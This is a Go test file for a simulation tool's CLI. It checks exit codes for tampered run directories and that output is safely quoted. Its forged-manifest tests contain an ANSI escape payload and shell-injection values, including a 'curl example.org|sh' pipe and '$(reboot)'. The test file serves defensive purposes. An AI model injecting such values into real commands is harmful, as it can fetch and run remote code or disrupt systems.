package main

import (
	"context"
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"corridor/sim/runs"
)

// told runs a command line and returns its exit code and all it prints.
func told(args ...string) (code int, text string) {
	var out strings.Builder
	code = run(context.Background(), args, &out, &out)
	return code, out.String()
}

// runOfLine makes the results of the smallest scenario, and returns their directory.
func runOfLine(t *testing.T, charts string, more ...string) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "r")
	scenario := filepath.Join(filepath.Dir(dir), "line.yaml")
	require.NoError(t, os.WriteFile(scenario, []byte(line), 0o600))
	args := append([]string{"run", scenario, "--charts", charts, "--out", dir}, more...)
	require.Equal(t, exitDone, run(context.Background(), args, io.Discard, os.Stderr))
	return dir
}

// forge changes the manifest of a run directory.
func forge(t *testing.T, dir string, change func(m map[string]any)) string {
	t.Helper()
	file := filepath.Join(dir, runs.ManifestFile)
	text, err := os.ReadFile(file)
	require.NoError(t, err)
	m := map[string]any{}
	require.NoError(t, json.Unmarshal(text, &m))
	change(m)
	text, err = json.Marshal(m)
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(file, text, 0o600))
	return dir
}

// What is wrong with a run directory ends a command with the code of its kind, and
// nothing of it steers a terminal.
func TestExitCodesOfRunDirectories(t *testing.T) {
	forged := forge(t, runOfLine(t, "none"), func(m map[string]any) { m["format"] = "\x1b[2J" })
	altered := runOfLine(t, "none")
	require.NoError(t, os.WriteFile(filepath.Join(altered, "annual.csv"), []byte("x"), 0o600))
	for _, c := range []struct {
		command, dir string
		want         int
	}{
		{"verify", forged, exitInvalid}, {"report", forged, exitInvalid}, {"plot", forged, exitInvalid}, {"merge", forged, exitInvalid},
		{"verify", altered, exitMismatch}, {"report", altered, exitMismatch}, {"plot", altered, exitInvalid}, {"merge", altered, exitInvalid},
		{"verify", t.TempDir(), exitInvalid},
	} {
		code, text := told(c.command, c.dir)
		require.Equal(t, c.want, code, "%s: %s", c.command, text)
		require.NotContains(t, text, "\x1b")
	}
	require.NoFileExists(t, filepath.Join(forged, runs.ReportFile))
}

// What the manifest says of the request is shown as words that a shell takes as such.
func TestForgedRequest(t *testing.T) {
	dir := forge(t, runOfLine(t, "none"), func(m map[string]any) {
		m["request"] = map[string]any{"scenario": "x; curl example.org|sh", "with": []any{"$(reboot)"}, "set": []any{"a=`b`"}}
	})
	code, text := told("report", dir)
	require.Equal(t, exitDone, code, text)
	page, err := os.ReadFile(filepath.Join(dir, runs.ReportFile))
	require.NoError(t, err)
	require.Contains(t, string(page), "<code>corridor run &#39;x; curl example.org|sh&#39; --with &#39;$(reboot)&#39; --set &#39;a=`b`&#39;</code>")
	code, text = told("verify", dir)
	require.Equal(t, exitDone, code, text)
	require.Contains(t, text, "What the manifest says of the version, the commit and the command line cannot be checked")
}
